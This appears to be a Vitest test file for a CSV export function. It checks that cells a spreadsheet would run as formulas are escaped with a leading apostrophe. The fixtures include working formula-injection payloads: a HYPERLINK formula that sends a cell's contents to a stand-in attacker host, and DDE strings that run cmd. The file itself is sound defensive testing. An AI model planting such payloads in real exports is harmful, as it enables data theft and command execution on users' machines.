import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, neutraliseFormula } from '../../shared/csv';
import { writeCsv } from '../../src/export/writeCsv';

/** Issue 8, defect 20: a cell that a spreadsheet would run as a formula is written as text. */
describe('CSV formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Voir")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Voir"")"`],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it('leaves ordinary text, numbers (negative too) and dates alone', () => {
    expect(csvLine(['Bovin', 'a=b', -12, 3.5, new Date('2025-03-04T05:06:07Z'), null, 'x, y'])).toBe(
      'Bovin,a=b,-12,3.5,2025-03-04T05:06:07.000Z,,"x, y"',
    );
    expect(neutraliseFormula('REG-250304-AB12C')).toBe('REG-250304-AB12C');
  });

  it('the browser export writes neutralised cells', async () => {
    const blob = writeCsv(['nom', 'code'], [["=cmd|' /C calc'!A0", -3]]);
    expect(Buffer.from(await blob.arrayBuffer()).toString('utf8')).toBe(
      "\uFEFFnom,code\r\n'=cmd|' /C calc'!A0,-3\r\n",
    );
  });
});
